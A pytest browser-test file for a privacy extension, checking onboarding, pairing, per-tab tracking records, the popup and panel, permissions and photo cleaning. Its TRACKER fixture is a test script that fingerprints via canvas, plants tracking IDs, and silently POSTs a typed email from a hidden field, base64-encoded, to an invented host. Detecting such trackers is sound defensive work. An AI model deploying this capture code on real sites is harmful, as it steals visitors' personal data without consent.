"""The extension in a real Firefox: first run, pairing, the record, popup and panel."""

from __future__ import annotations

import base64
import json
import shutil
import subprocess
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import IO, Any

import pytest

from assistant.service import SiteRecord
from assistant.settings import Settings
from tests.api.stub import StubAssistant
from tests.browse.stage import script
from tests.cli.test_site import site as site_command
from tests.extension.stage import EXTENSION, RunningService, until
from tests.photo.clean_images import JPEG_DETAILS, after_first, jpeg
from tests.render.sites import make_site
from tests.servers import Response, Server, page, redirect

pytestmark = pytest.mark.browser

HOSTS = ("shop.test", "stats.test", "ads.test", "other.test", "scorecardresearch.com")
"""Names of the invented sites, and one of a company that the extension knows."""
PREFERENCES = {
    # Half a minute is what people have; a call to a busy service must fit in.
    "extensions.background.idle.timeout": 6_000,
    # What `permissions.request` asks stands in a window of the browser's own.
    "extensions.webextOptionalPermissionPrompts": False,
}
SEEN = {"headers", "requests", "cookies", "storage", "calls", "fields"}
"""What is watched of a page that was seen from the beginning."""
ALL_SITES = '{ origins: ["<all_urls>"] }'
WITHIN_S = 45.0
FIRST_RUN = 0
MAIL = "anna.berg.4711@mailbox.example"
UID = "8c1e77d2b3a64f9a0d5e"
SEND = "message => chrome.runtime.sendMessage(message)"
TEXT = "() => document.body.innerText"
CLEAN = """async ([encoded, trailing]) => {
  const bytes = Uint8Array.from(atob(encoded), (character) => character.charCodeAt(0));
  const file = new File([bytes, new Uint8Array(trailing)], "a.jpg", { type: "image/jpeg" });
  const { copy } = await chrome.runtime.sendMessage({ type: "clean-photo", file, boxes: [] });
  return btoa(String.fromCharCode(...new Uint8Array(await copy.blob.arrayBuffer())));
}"""
TRACKER = f"""
document.cookie = "visitor={UID}; Max-Age=86400; Path=/";
localStorage.setItem("visitor", "{UID}");
const canvas = document.createElement("canvas");
canvas.getContext("2d").fillText("Cwm fjordbank glyphs vext quiz", 2, 2);
canvas.toDataURL();
const inside = document.querySelector("#form").attachShadow({{ mode: "closed" }});
globalThis.field = inside.appendChild(document.createElement("input"));
field.type = "email";
field.addEventListener("change", ({{ target }}) => {{
  fetch("AWAY/post", {{ method: "POST", mode: "no-cors", body: btoa(target.value) }});
}});
"""

JsonObject = dict[str, Any]


class Firefox:
    """Firefox with the extension and a person who uses both; see `firefox.mjs`."""

    def __init__(self, to: IO[str], answers: IO[str], sites: Server) -> None:
        self._to = to
        self._answers = answers
        self.sites = sites
        self.version = str(self._answer())

    def _answer(self) -> Any:
        told: JsonObject = json.loads(self._answers.readline() or '{"error": "Firefox is gone"}')
        assert "error" not in told, told["error"]
        return told["value"]

    def tell(self, do: str, **command: object) -> Any:
        self._to.write(json.dumps({"do": do, **command}) + "\n")
        self._to.flush()
        return self._answer()

    def visit(self, path: str = "/", *, host: str = "shop.test") -> int:
        """The number of a page of the invented sites, in a tab of its own."""
        return int(self.tell("visit", url=self.sites.url(path, host=host)))

    def open(self, path: str) -> int:
        """The number of a page of the extension, in a tab of its own."""
        return int(self.tell("open", path=path))

    def evaluate(self, code: str, argument: object = None, page: int = FIRST_RUN) -> Any:
        return self.tell("evaluate", page=page, code=code, argument=argument)

    def click(self, button: str, page: int) -> None:
        self.tell("click", page=page, selector=f"button ::-p-text({button})")

    def send(self, **message: object) -> Any:
        """The background's answer to a message of a page of the extension."""
        return self.evaluate(SEND, message)

    def shows(self, page: int, *words: str) -> None:
        """Wait until all of this stands on a page."""
        read = lambda: str(self.evaluate(TEXT, page=page))  # noqa: E731
        try:
            until(lambda: all(word in read() for word in words), WITHIN_S)
        except AssertionError:
            raise AssertionError(read()) from None

    def tab_id(self, page: int) -> int:
        """The browser's number of a page's tab, of which no other has the address."""
        find = "url => chrome.tabs.query({}).then(tabs => tabs.find(tab => tab.url === url).id)"
        return int(self.evaluate(find, self.evaluate("() => location.href", page=page)))

    def record(self, tab: int, complete: Callable[[JsonObject], object]) -> JsonObject:
        """The record of a tab, as soon as it was seen from the beginning and is complete."""
        told: list[JsonObject | None] = []

        def is_complete() -> bool:
            record = self.send(type="observation", tabId=tab)
            told[:] = [record]
            return record and set(record["watched"]) >= SEEN and complete(record["visits"][0])

        until(is_complete, WITHIN_S)
        assert told[0] is not None
        return told[0]


@contextmanager
def running(sites: Server) -> Iterator[Firefox]:
    executable = shutil.which("firefox-esr") or shutil.which("firefox")
    node = shutil.which("node")
    assert executable and node, "the tests need Firefox and Node.js"
    settings = {
        "executable": executable,
        "extension": str(EXTENSION),
        "hosts": HOSTS,
        "preferences": PREFERENCES,
    }
    driver = Path(__file__).with_name("firefox.mjs")
    with subprocess.Popen(
        [node, driver, json.dumps(settings)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    ) as process:
        assert process.stdin and process.stdout
        try:
            yield Firefox(process.stdin, process.stdout, sites)
        finally:
            process.stdin.close()  # it then ends the browser, and itself


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningService]:
    behind = RunningService(StubAssistant(Settings(data_dir=tmp_path_factory.mktemp("data"))))
    behind.start()
    yield behind
    behind.stop()


@pytest.fixture(scope="module")
def fresh(service: RunningService) -> Iterator[Firefox]:
    """Before the first choice."""
    with Server({}) as sites, running(sites) as firefox:
        plant(sites)
        firefox.send(type="set", settings={"service": service.address})
        yield firefox


@pytest.fixture(scope="module")
def firefox(fresh: Firefox, service: RunningService) -> Firefox:
    """Started and connected, as a person does it on the first-run page."""
    fresh.click("Start", FIRST_RUN)
    fresh.shows(FIRST_RUN, "It is on.")
    fresh.click("Connect", FIRST_RUN)
    fresh.shows(FIRST_RUN, "Waiting for you")
    code = fresh.evaluate("() => document.querySelector('.pairing-code').innerText").split()[-1]
    assert service.answer_pairing(code).status == 204
    fresh.shows(FIRST_RUN, "Connected")
    return fresh


@pytest.fixture(autouse=True)
def tidy(fresh: Firefox) -> Iterator[None]:
    """Leaves the first-run page alone."""
    yield
    fresh.tell("tidy")
    fresh.sites.requests.clear()


def plant(sites: Server) -> None:
    """A shop with a script, a picture, a cookie and a frame of others."""
    away = sites.url("", host="stats.test")
    picture = sites.url(f"/s.gif?uid={UID}", host="scorecardresearch.com")
    frame = sites.url("/frame", host="ads.test")
    sites.answers["/"] = page(
        f"<title>Shop</title><img src='{picture}'><iframe src='{frame}'></iframe>"
        f"<div id=form></div><script src='{away}/t.js'></script>"
    )
    sites.answers["/other"] = page("<title>Other</title><p>Nothing here.</p>")
    sites.answers["/go"] = redirect(sites.url("/", host="shop.test"))
    sites.answers["/t.js"] = script(TRACKER.replace("AWAY", away))
    sites.answers["/frame"] = page("<script>document.createElement('canvas').toDataURL()</script>")
    sites.answers[f"/s.gif?uid={UID}"] = Response(
        b"GIF89a", headers={"Set-Cookie": f"uid={UID}; Max-Age=86400; Path=/"}
    )
    sites.answers["/late.gif"] = Response(b"GIF89a")


def test_nothing_is_recorded_before_the_choice_on_the_first_run_page(fresh: Firefox) -> None:
    fresh.shows(FIRST_RUN, "See who gets your data", "Not connected")
    tab = fresh.tab_id(fresh.visit())
    until(lambda: any("/t.js" in request.target for request in fresh.sites.requests), WITHIN_S)

    view = fresh.send(type="view", tabId=tab)

    assert (view["site"]["host"], view["live"], view["report"]) == ("shop.test", None, None)
    assert fresh.send(type="observation", tabId=tab) is None
    assert fresh.evaluate("() => chrome.storage.session.get(null)") == {}


def test_the_service_knows_firefox_by_its_name(firefox: Firefox, service: RunningService) -> None:
    (browser,) = service.as_person("GET", "/pair").json()["browsers"]
    assert browser["client"] == firefox.version.replace("firefox/", "Firefox ").partition(".")[0]
    assert firefox.send(type="view")["connection"] == "connected"


def test_what_a_page_does_is_in_the_record_which_the_command_rates(
    firefox: Firefox, tmp_path: Path
) -> None:
    sites = firefox.sites
    shop = firefox.visit("/go", host="other.test")
    firefox.evaluate("() => field.focus()", page=shop)
    firefox.tell("type", page=shop, text=MAIL)
    record = firefox.record(
        firefox.tab_id(shop), lambda visit: visit["leaks"] and len(visit["calls"]) == 2
    )

    visit = record["visits"][0]
    away, frame = sites.url("/t.js", host="stats.test"), sites.url("/frame", host="ads.test")
    picture = sites.url("/s.gif?uid=", host="scorecardresearch.com")
    assert (visit["url"], visit["status"]) == (sites.url("/", host="shop.test"), 200)
    assert [(hop["url"], hop["status"]) for hop in visit["hops"]] == [
        (sites.url("/go", host="other.test"), 302)
    ]
    seen = {request["url"]: (request["type"], request["status"]) for request in visit["requests"]}
    assert seen[picture] == ("image", 200)
    assert seen[frame] == ("sub_frame", 200)
    cookies = {(one["name"], one["domain"]): one["script"] for one in visit["cookies"]}
    assert cookies == {("uid", "scorecardresearch.com"): None, ("visitor", "shop.test"): away}
    (kept,) = visit["storage"]
    assert (kept["store"], kept["key"], kept["script"]) == ("local", "visitor", away)
    calls = {one["script"]: one for one in visit["calls"]}
    assert calls[away]["calls"]["HTMLCanvasElement.toDataURL"] == 1
    assert calls[away]["canvas_text"] == 27
    assert calls[frame]["frame"] == frame
    (leak,) = visit["leaks"]
    assert (leak["field"], leak["channel"], leak["encodings"]) == ("email", "post", ["base64"])
    assert MAIL not in json.dumps(record)
    assert UID not in json.dumps(record)

    file = tmp_path / "observation.json"
    file.write_text(json.dumps(record), "utf-8")
    done = site_command("--observation", str(file), "--json", tmp_path=tmp_path)
    assert done.returncode == 0, done.stderr
    present = {
        finding["rule_id"]
        for finding in json.loads(done.stdout)["findings"]
        if finding["outcome"] == "present"
    }
    assert present >= {"site.capture-before-submit", "site.canvas-fingerprinting"}


def test_every_page_on_the_way_is_seen_from_its_own_request(firefox: Firefox) -> None:
    shop = firefox.visit("/other")
    tab, sites = firefox.tab_id(shop), firefox.sites
    for host, path in (
        ("shop.test", "/"),
        ("other.test", "/other"),
        ("shop.test", "/"),
        ("shop.test", "/other"),
    ):
        there = sites.url(path, host=host)
        firefox.tell("goto", page=shop, url=there)
        record = firefox.record(tab, lambda visit, there=there: visit["url"] == there)
        asked = {
            request["url"]
            for request in record["visits"][0]["requests"]
            if request["type"] == "main_frame"
        }
        assert asked == {there}


def test_popup_and_panel_show_the_site_its_companies_and_its_rating(
    firefox: Firefox, service: RunningService
) -> None:
    tab = firefox.tab_id(firefox.visit())
    popup = firefox.open(f"src/popup/popup.html?tab={tab}")
    firefox.shows(popup, "shop.test", "Connected", "1 of them follows people", "Comscore")

    panel = firefox.open(f"src/panel/panel.html?tab={tab}")
    firefox.shows(panel, "shop.test", "Comscore")
    firefox.click("Rate this page", popup)

    verdict = make_site().verdict.text
    firefox.shows(popup, verdict)
    firefox.shows(panel, verdict, "What was found")
    (looked,) = service.assistant.looked  # type: ignore[attr-defined]
    assert isinstance(looked[0], SiteRecord)


def test_what_is_known_of_a_tab_outlives_the_background_page(firefox: Firefox) -> None:
    shop = firefox.visit()
    tab = firefox.tab_id(shop)
    firefox.record(tab, lambda visit: visit["calls"] and len(visit["requests"]) > 3)
    firefox.send(type="rate", tabId=tab)
    before = firefox.record(tab, lambda visit: visit["calls"])["visits"][0]
    until(lambda: firefox.evaluate("() => !chrome.extension.getBackgroundPage()"), WITHIN_S)

    late = firefox.sites.url("/late.gif", host="stats.test")
    firefox.evaluate("url => { new Image().src = url; }", late, shop)
    after = firefox.record(
        tab, lambda visit: any(request["url"] == late for request in visit["requests"])
    )["visits"][0]

    for name in ("url", "status", "headers", "cookies", "storage", "hops"):
        assert after[name] == before[name]
    assert after["requests"][: len(before["requests"])] == before["requests"]
    view = firefox.send(type="view", tabId=tab)
    assert view["report"]["verdict"]["text"] == make_site().verdict.text
    assert view["connection"] == "connected"


def test_a_huge_photo_and_its_clean_copy_arrive_whole(firefox: Firefox) -> None:
    photo = after_first(jpeg(), JPEG_DETAILS["comment"])
    panel = firefox.open(f"src/panel/panel.html?tab={firefox.tab_id(firefox.visit('/other'))}")
    encoded = base64.b64encode(photo).decode()
    copy = firefox.evaluate(CLEAN, [encoded, 20_000_000], page=panel)
    assert base64.b64decode(copy) == jpeg()


def test_without_access_to_sites_there_is_one_button_that_asks_for_it(firefox: Firefox) -> None:
    tab = firefox.tab_id(firefox.visit("/other"))
    assert firefox.evaluate(f"() => chrome.permissions.remove({ALL_SITES})")
    popup = firefox.open(f"src/popup/popup.html?tab={tab}")
    firefox.shows(popup, "The browser keeps the extension away from sites.", "Allow it")
    firefox.shows(FIRST_RUN, "The browser keeps the extension away from sites.")

    firefox.click("Allow it", popup)
    again = int(firefox.tell("opened", path="onboarding.html"))
    firefox.click("Allow it", again)

    until(lambda: firefox.evaluate(f"() => chrome.permissions.contains({ALL_SITES})"), WITHIN_S)
    firefox.shows(FIRST_RUN, "Connected")
    tab = firefox.tab_id(firefox.visit())
    assert firefox.record(tab, lambda visit: visit["calls"])


def test_why_opens_the_panel_beside_the_page(firefox: Firefox) -> None:
    # The last: only a person can close it again.
    popup = firefox.open(f"src/popup/popup.html?tab={firefox.tab_id(firefox.visit())}")
    firefox.shows(popup, "Comscore")
    firefox.click("Why?", popup)
    until(lambda: firefox.evaluate("() => browser.sidebarAction.isOpen({})"), WITHIN_S)
